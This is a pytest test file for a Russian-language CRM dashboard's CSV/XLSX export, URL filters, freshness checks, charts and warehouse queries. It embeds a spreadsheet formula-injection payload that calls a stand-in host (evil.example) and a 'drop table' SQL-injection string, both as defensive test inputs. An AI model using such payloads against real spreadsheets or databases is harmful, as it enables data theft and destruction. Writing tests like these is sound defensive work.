"""export.py round trips, the URL <-> filter mapping, freshness, the new chart builders and the
new queries on small inputs."""

from __future__ import annotations

import csv
import io
import statistics
from datetime import date, datetime, timedelta
from decimal import Decimal
from typing import Any

import plotly.graph_objects as go
import polars as pl
import pytest

from dashboards import charts, export, freshness, queries
from dashboards.filters import (
    DEAL_KINDS_KEY,
    MANAGERS_KEY,
    PERIOD_KEY,
    REGIONS_KEY,
    query_params_from_state,
    state_from_query_params,
)
from dashboards.queries import Filters
from dashboards.widgets import selected_keys
from tests.dashboards import fixture_marts as fx

PERIOD = Filters(start=date(2023, 7, 1), end=date(2024, 6, 20))

FRAME = pl.DataFrame(
    {
        "name": ["Иванов Иван", 'Петрова; "Анна"', None],
        "deals": [3, 1_234_567, 0],
        "amount": [Decimal("95000.50"), Decimal("0.01"), None],
        "share": [0.5, None, 1 / 3],
        "day": [date(2024, 1, 31), None, date(2023, 12, 1)],
        "at": [datetime(2024, 6, 20, 2, 10), None, None],
    },
    schema_overrides={"amount": pl.Decimal(18, 2)},
)


@pytest.fixture(autouse=True)
def _russian(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("CRM_LANG", raising=False)


# -- export ----------------------------------------------------------------------------------


def test_english_csv_round_trip_with_labels() -> None:
    data = export.to_csv_bytes(FRAME, {"name": "Менеджер", "deals": "Сделки"}, lang="en")

    assert data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0] == ["Менеджер", "Сделки", "amount", "share", "day", "at"]
    back = pl.read_csv(data[3:], schema_overrides={"day": pl.Date})
    assert back["Менеджер"].to_list() == FRAME["name"].to_list()
    assert back["Сделки"].to_list() == FRAME["deals"].to_list()
    assert back["amount"].to_list() == [95000.5, 0.01, None]
    assert back["day"].to_list() == FRAME["day"].to_list()


def test_russian_csv_opens_in_a_russian_excel() -> None:
    """Semicolons, a decimal comma, dd.mm.yyyy dates and a BOM: what Excel in ru-RU expects."""
    data = export.to_csv_bytes(FRAME, {"name": "Менеджер"}, lang="ru")

    assert data.startswith("\ufeff".encode())
    text = data.decode("utf-8-sig")
    assert text.splitlines()[0] == "Менеджер;deals;amount;share;day;at"
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows[1] == ["Иванов Иван", "3", "95000,50", "0,5", "31.01.2024", "20.06.2024 02:10"]
    assert rows[2] == ['Петрова; "Анна"', "1234567", "0,01", "", "", ""]
    assert "," not in rows[1][1] and rows[3][3].startswith("0,333")


HOSTILE = pl.DataFrame(
    {
        "partner_name": ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+7 999", "ООО Ромашка"],
        "debt": [Decimal("-5.00"), Decimal("10.00"), Decimal("0.00")],
    }
)


@pytest.mark.parametrize("lang", ["ru", "en"])
def test_csv_text_cells_never_become_formulas(lang: str) -> None:
    data = export.to_csv_bytes(HOSTILE, {"partner_name": "=Партнёр"}, lang=lang)

    rows = list(
        csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";" if lang == "ru" else ",")
    )
    assert rows[0][0] == "'=Партнёр"
    assert rows[1][0] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert rows[2][0] == "'+7 999"
    assert rows[3][0] == "ООО Ромашка"
    # A negative number is a number, not a formula: no apostrophe.
    assert rows[1][1] == ("-5,00" if lang == "ru" else "-5.00")


def test_xlsx_text_cells_never_become_formulas_and_numbers_stay_numbers() -> None:
    data = export.to_xlsx_bytes(HOSTILE, kinds={"debt": "amount"})

    rows = export.read_xlsx(data)
    assert rows[1][0] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert rows[2][0] == "'+7 999"
    assert rows[1][1] == -5 and isinstance(rows[1][1], float | int)
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    assert sheet["A2"].data_type == "s"  # a string cell, not a formula ("f")
    assert sheet["B2"].data_type == "n"


def test_xlsx_number_formats_follow_the_column_kinds() -> None:
    from openpyxl import load_workbook

    data = export.to_xlsx_bytes(
        FRAME, kinds={"deals": "int", "amount": "amount", "share": "percent", "day": "month"}
    )
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    formats = {cell.column_letter: cell.number_format for cell in sheet[2]}
    assert formats["B"] == "#,##0"
    assert formats["C"] == "#,##0.00"
    assert formats["D"] == "0.0%"
    assert formats["E"] == "MMM YYYY"
    assert formats["F"] == "DD.MM.YYYY HH:MM"  # by type when no kind is given


def test_xlsx_round_trip_keeps_types() -> None:
    data = export.to_xlsx_bytes(FRAME, {"name": "Менеджер"}, sheet_name="deals/by:manager")

    assert data[:2] == b"PK"  # a zip container
    rows = export.read_xlsx(data)
    assert rows[0] == ("Менеджер", "deals", "amount", "share", "day", "at")
    assert rows[1] == (
        "Иванов Иван",
        3,
        95000.5,
        0.5,
        date(2024, 1, 31),
        datetime(2024, 6, 20, 2, 10),
    )
    assert rows[2] == ('Петрова; "Анна"', 1_234_567, 0.01, None, None, None)
    assert rows[3][0] is None and rows[3][3] == pytest.approx(1 / 3)


def test_xlsx_of_an_empty_frame_has_the_header_only() -> None:
    assert export.read_xlsx(export.to_xlsx_bytes(FRAME.clear())) == [tuple(FRAME.columns)]


def test_file_name() -> None:
    assert export.file_name("sales_funnel", "xlsx", date(2024, 6, 20)) == (
        "sales_funnel_2024-06-20.xlsx"
    )


# -- URL <-> filters -------------------------------------------------------------------------


def test_query_params_to_state_and_back() -> None:
    params = {"from": "2024-01-01", "to": "2024-06-30", "manager": "2,1", "region": "3"}

    state = state_from_query_params(params)

    assert state == {
        PERIOD_KEY: (date(2024, 1, 1), date(2024, 6, 30)),
        MANAGERS_KEY: [2, 1],
        REGIONS_KEY: [3],
    }
    assert query_params_from_state(state) == params


def test_query_params_tolerate_bad_input() -> None:
    state = state_from_query_params(
        {"from": "2024-06-30", "to": "2024-01-01", "deal_kind": "1,1,x,-3,", "manager": ""}
    )

    assert state[PERIOD_KEY] == (date(2024, 1, 1), date(2024, 6, 30))  # swapped into order
    assert state[DEAL_KINDS_KEY] == [1]
    assert state[MANAGERS_KEY] == []
    assert state_from_query_params({"from": "2024-13-01", "to": "2024-01-01"}) == {}
    # A half-picked period writes no dates.
    assert query_params_from_state({PERIOD_KEY: (date(2024, 1, 1),)}) == {}


def test_selected_keys_reads_customdata() -> None:
    event = {"selection": {"points": [{"customdata": [12, "x"]}, {"customdata": "11"}, {}]}}

    assert selected_keys(event) == [12, "11"]
    assert selected_keys(None) == []
    assert selected_keys({"selection": {"points": []}}) == []


# -- freshness -------------------------------------------------------------------------------


def test_freshness_age_and_staleness() -> None:
    rows = pl.DataFrame(
        {
            "source": ["raw_oltp.deals", "raw_gis.egais"],
            "last_loaded_at": [datetime(2024, 6, 20, 2), datetime(2024, 6, 18, 2)],
        }
    )
    now = datetime(2024, 6, 20, 14)

    aged = freshness.with_age(rows, now, timedelta(hours=26))

    assert aged["age_hours"].to_list() == [12.0, 60.0]
    assert aged["is_stale"].to_list() == [False, True]
    assert not freshness.is_publication_stale(datetime(2024, 6, 20, 2), now, timedelta(hours=26))
    assert freshness.is_publication_stale(None, now, timedelta(hours=26))


# -- charts ----------------------------------------------------------------------------------


def test_funnel_chart_carries_stage_ids_for_drill_down() -> None:
    funnel = pl.DataFrame(
        {
            "stage_id": [12, 11],
            "stage_name": ["Б", "А"],
            "stage_sequence": [2, 1],
            "deals_entered": [1, 2],
            "cumulative_conversion": [0.5, 1.0],
        }
    )

    (trace,) = charts.funnel_chart(funnel).data

    assert list(trace.customdata) == [11, 12]


def test_satisfaction_chart() -> None:
    frame = pl.DataFrame(
        {
            "group_key": ["11", ""],
            "group_name": ["Брак", None],
            "claims_resolved": [4, 2],
            "claims_satisfied": [3, 0],
            "satisfied_share": [0.75, 0.0],
        }
    )

    (trace,) = charts.satisfaction_chart(frame).data

    assert isinstance(trace, go.Bar) and trace.orientation == "h"
    assert list(trace.y) == ["Не указано", "Брак"]  # fewest first: the largest ends on top
    assert list(trace.customdata) == ["", "11"]
    assert list(trace.text) == ["0,0\u00a0% (0/2)", "75,0\u00a0% (3/4)"]


def test_claim_structure_and_trend_charts() -> None:
    structure = pl.DataFrame(
        {
            "group_key": ["11", "21"],
            "group_name": ["Брак", "Опоздание"],
            "claims_registered": [3, 1],
            "share_of_claims": [0.75, 0.25],
        }
    )
    by_month = pl.DataFrame(
        {
            "month": [date(2024, 1, 1), date(2024, 1, 1), date(2024, 2, 1)],
            "group_key": ["11", "21", "11"],
            "group_name": ["Брак", "Опоздание", "Брак"],
            "claims_registered": [2, 1, 1],
        }
    )

    (bar,) = charts.claim_structure_chart(structure).data
    trend = charts.claim_trend_chart(by_month)

    assert list(bar.x) == [1, 3]
    assert list(bar.text) == ["1 · 25,0\u00a0%", "3 · 75,0\u00a0%"]
    assert [trace.name for trace in trend.data] == ["Брак", "Опоздание"]
    assert list(trend.data[0].y) == [2, 1]
    assert trend.layout.barmode == "stack"


def test_events_heatmap_fills_missing_days_with_zero() -> None:
    calendar = pl.DataFrame(
        {
            "user_name": ["Иванов", "Петрова", None],
            "planned_date": [date(2024, 6, 3), date(2024, 6, 4), date(2024, 6, 3)],
            "interactions_overdue": [1, 2, 3],
        }
    )

    (trace,) = charts.events_heatmap(calendar, "interactions_overdue").data

    assert isinstance(trace, go.Heatmap)
    assert list(trace.y) == ["Иванов", "Петрова", "Не назначен"]
    assert [list(row) for row in trace.z] == [[1, 0], [0, 2], [3, 0]]


def test_on_time_chart_and_debt_ageing_chart() -> None:
    fulfilment = pl.DataFrame(
        {
            "month": [date(2024, 1, 1)],
            "shipped_on_time": [2],
            "shipped_late": [1],
            "shipped_unknown": [0],
        }
    )
    ageing = pl.DataFrame(
        {
            "partner_id": [1, 1, 2],
            "partner_name": ["А", "А", "Б"],
            "ageing_bucket": ["0-30", "90+", "0-30"],
            "overdue_amount": [10.0, 5.0, 20.0],
        }
    )

    on_time = charts.on_time_chart(fulfilment, "shipped")
    debt = charts.debt_ageing_chart(ageing, top=1)

    assert [trace.name for trace in on_time.data] == [
        "В срок",
        "С опозданием",
        "Ещё нет / без плана",
    ]
    assert list(debt.layout.yaxis.categoryarray) == ["Б"]  # the top partner only
    assert [list(trace.customdata) for trace in debt.data if len(trace.x)] == [[2]]


def test_region_gis_and_forecast_charts() -> None:
    regions = pl.DataFrame(
        {
            "business_region_id": [1, 2],
            "business_region_name": ["Центр", None],
            "revenue_amount": [100.0, 50.0],
            "margin_amount": [30.0, 5.0],
            "margin_share": [0.3, 0.1],
        }
    )
    daily = pl.DataFrame(
        {
            "exchange_date": [date(2024, 6, 1), date(2024, 6, 1)],
            "status_group": ["accepted", "error"],
            "documents": [3, 1],
        }
    )
    forecast = pl.DataFrame(
        {
            "group_name": ["Иванов"],
            "potential_amount": [100.0],
            "weighted_amount": [40.0],
            "weighted_share": [0.4],
        }
    )

    bars = charts.region_chart(regions)
    treemap = charts.region_treemap(regions)
    gis = charts.gis_daily_chart(daily)
    weighted = charts.forecast_chart(forecast)

    # Horizontal bars (names readable on the y axis), the largest revenue on top.
    assert bars.data[0].orientation == "h"
    revenue_by_name = dict(zip(bars.data[0].y, bars.data[0].x, strict=True))
    assert revenue_by_name == dict(
        zip(["Центр", "Не указано"], regions["revenue_amount"].to_list(), strict=True)
    )
    assert list(bars.data[0].y) == [
        name
        for _, name in sorted(zip(regions["revenue_amount"], ["Центр", "Не указано"], strict=True))
    ]
    shares = dict(zip(bars.data[1].y, bars.data[1].text, strict=True))
    assert shares == {"Центр": "30,0\u00a0%", "Не указано": "10,0\u00a0%"}
    assert dict(zip(bars.data[0].y, bars.data[0].customdata, strict=True)) == {
        "Центр": 1,
        "Не указано": 2,
    }
    assert isinstance(treemap.data[0], go.Treemap)
    assert [trace.name for trace in gis.data] == ["Принят", "Ошибка"]
    assert list(gis.data[1].customdata) == ["error"]
    assert list(weighted.data[1].text) == ["40,0\u00a0%"]


# -- queries on the fixture ------------------------------------------------------------------


def test_kpis_by_month_agree_with_the_period_kpis(warehouse: Any) -> None:
    by_month = queries.kpis_by_month(PERIOD)
    kpis = queries.overview_kpis(PERIOD).row(0, named=True)

    assert by_month.height == 12
    assert by_month["month"][0] == date(2023, 7, 1)
    assert by_month["won_amount"].sum() == pytest.approx(kpis["won_amount"])
    # The open deals at the end of the last (partial) month are the deals open now.
    assert by_month["open_deals"][-1] == kpis["open_deals"]
    deals = warehouse.deals
    end_of_march = date(2024, 3, 31)
    assert by_month.filter(pl.col("month") == date(2024, 3, 1))["open_deals"].item() == sum(
        deal.created_date <= end_of_march
        and (deal.closed_date is None or deal.closed_date > end_of_march)
        for deal in deals
    )


def test_claim_satisfaction_by_manager_matches_python(warehouse: Any) -> None:
    result = queries.claim_satisfaction(PERIOD, by="manager")

    for row in result.iter_rows(named=True):
        claims = [
            c
            for c in fx.CLAIMS
            if str(c.manager_id) == row["group_key"]
            and c.resolved_date
            and PERIOD.start <= c.resolved_date <= PERIOD.end
        ]
        days = [c.days_to_resolve for c in claims]
        assert row["claims_resolved"] == len(claims)
        assert row["claims_satisfied"] == sum(bool(c.is_satisfied) for c in claims)
        assert row["median_days_to_resolve"] == pytest.approx(statistics.median(days))


def test_claim_structure_shares_sum_to_one(warehouse: Any) -> None:
    structure = queries.claim_structure(PERIOD)
    by_month = queries.claim_structure_by_month(Filters(manager_ids=(2,)))

    assert structure["share_of_claims"].sum() == pytest.approx(1.0)
    assert structure["claims_registered"].sum() == sum(
        PERIOD.start <= c.registered_at.date() <= PERIOD.end for c in fx.CLAIMS
    )
    for (_,), month in by_month.group_by("month"):
        assert month["share_of_month"].sum() == pytest.approx(1.0)


@pytest.mark.parametrize(
    ("query", "args"),
    [
        (queries.claim_satisfaction, ("partner_name; drop table marts.fct_claims",)),
        (queries.pipeline_forecast_by, ("partner",)),
    ],
)
def test_group_by_rejects_unknown_dimensions(warehouse: Any, query: Any, args: tuple) -> None:
    with pytest.raises(KeyError):
        query(PERIOD, *args)


def test_missing_tables_and_missing_mart_error(old_warehouse: Any) -> None:
    assert queries.missing_tables("marts.fct_deals", "marts.fct_claims", "meta.publication") == [
        "marts.fct_claims",
        "meta.publication",
    ]
    with pytest.raises(queries.MissingMartError):
        queries.claim_kpis(PERIOD)


def test_gis_error_codes_and_documents(warehouse: Any) -> None:
    codes = queries.gis_error_codes(("gismt",))
    open_documents = queries.gis_documents(PERIOD, status_group="processing")

    assert codes["error_code"].to_list() == ["E-500"]
    assert sorted(open_documents["document_id"].to_list()) == sorted(
        doc.document_id
        for doc in fx.GIS_DOCUMENTS
        if doc.status_group == "processing"
        and PERIOD.start <= doc.first_event_at.date() <= PERIOD.end
    )
